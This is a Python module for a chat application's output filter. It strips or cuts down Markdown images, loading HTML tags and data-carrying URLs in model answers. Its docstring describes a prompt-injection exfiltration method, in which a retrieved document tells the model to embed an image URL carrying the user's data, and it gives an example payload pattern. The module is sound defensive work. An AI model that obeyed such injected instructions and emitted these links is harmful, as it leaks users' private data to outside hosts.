"""Links and images in answers that could carry data out (OWASP LLM05, improper output handling).

A retrieved document can tell the model to add ``![x](https://host/?q=<the user's data>)``: a chat
page that renders the answer then sends the data to that host without a click. Kept as they are:
URLs that appear verbatim in what the user wrote or in the retrieved chunks, and URLs on the
policy's ``allowed_hosts``. Anything else is neutralised:

- images (Markdown) and HTML tags that load something by themselves (img, iframe, script, ...)
  are removed, their alt text kept;
- links and bare URLs that could carry data (a query string, a fragment, credentials, or a long
  or encoded path segment) are cut down to their host, so nothing in them can be followed.

Written here because the URL filters we know judge hosts (block lists, or a model), not whether a
link can carry data out; this one needs neither and runs on the stream.
"""

from __future__ import annotations

import re
from urllib.parse import urlsplit

IMAGE = re.compile(r"!\[([^\]\n]*)\]\(\s*<?([^)\s>]+)>?(?:\s+[\"'][^\"'\n]*[\"'])?\s*\)")
LINK = re.compile(r"(?<!!)\[([^\]\n]*)\]\(\s*<?([^)\s>]+)>?(?:\s+[\"'][^\"'\n]*[\"'])?\s*\)")
LOADING_TAG = re.compile(
    r"<\s*(img|image|iframe|frame|script|link|object|embed|video|audio|source|track|meta|style|base|form|svg|input)"
    r"\b[^>]*>(?:.*?<\s*/\s*\1\s*>)?",
    re.IGNORECASE | re.DOTALL,
)
URL = re.compile(r"\b(?:https?|ftp)://[^\s<>\"')\]]+|\bwww\.[^\s<>\"')\]]+", re.IGNORECASE)
_DATA_SEGMENT = re.compile(r"[%=]|[A-Za-z0-9_\-+/]{32,}")
_TRAILING = ".,;:!?"


def host_of(url: str) -> str:
    parts = urlsplit(url if "://" in url else "http://" + url)
    return (parts.hostname or "").lower()


def _allowed(url: str, given: list[str], allowed_hosts: tuple[str, ...]) -> bool:
    host = host_of(url)
    if any(host == h or host.endswith("." + h) for h in allowed_hosts):
        return True
    return any(url in text for text in given)


def carries_data(url: str) -> bool:
    """A URL with room for data: query, fragment, credentials, or a long or encoded path segment."""
    parts = urlsplit(url if "://" in url else "http://" + url)
    if parts.query or parts.fragment or parts.username or parts.password:
        return True
    return any(_DATA_SEGMENT.search(segment) for segment in parts.path.split("/"))


def neutralise(text: str, given: list[str], allowed_hosts: tuple[str, ...] = ()) -> tuple[str, int]:
    """(text with dangerous images, tags and links neutralised, how many were)."""
    count = 0

    def image(match: re.Match[str]) -> str:
        nonlocal count
        if _allowed(match.group(2), given, allowed_hosts):
            return match.group(0)
        count += 1
        alt = match.group(1).strip()
        return f"[image removed{': ' + alt if alt else ''}]"

    def tag(match: re.Match[str]) -> str:
        nonlocal count
        count += 1
        return f"[{match.group(1).lower()} removed]"

    def link(match: re.Match[str]) -> str:
        nonlocal count
        label, url = match.group(1), match.group(2)
        if _allowed(url, given, allowed_hosts) or not carries_data(url):
            return match.group(0)
        count += 1
        return f"{label} ({host_of(url)})"

    def bare(match: re.Match[str]) -> str:
        nonlocal count
        url = match.group(0).rstrip(_TRAILING)
        tail = match.group(0)[len(url) :]
        if _allowed(url, given, allowed_hosts) or not carries_data(url):
            return match.group(0)
        count += 1
        return f"{host_of(url)} (link removed){tail}"

    text = IMAGE.sub(image, text)
    text = LOADING_TAG.sub(tag, text)
    text = LINK.sub(link, text)
    # Bare URLs outside Markdown links (those were judged whole above).
    pieces, cursor = [], 0
    for match in LINK.finditer(text):
        pieces.append(URL.sub(bare, text[cursor : match.start()]))
        pieces.append(match.group(0))
        cursor = match.end()
    pieces.append(URL.sub(bare, text[cursor:]))
    return "".join(pieces), count
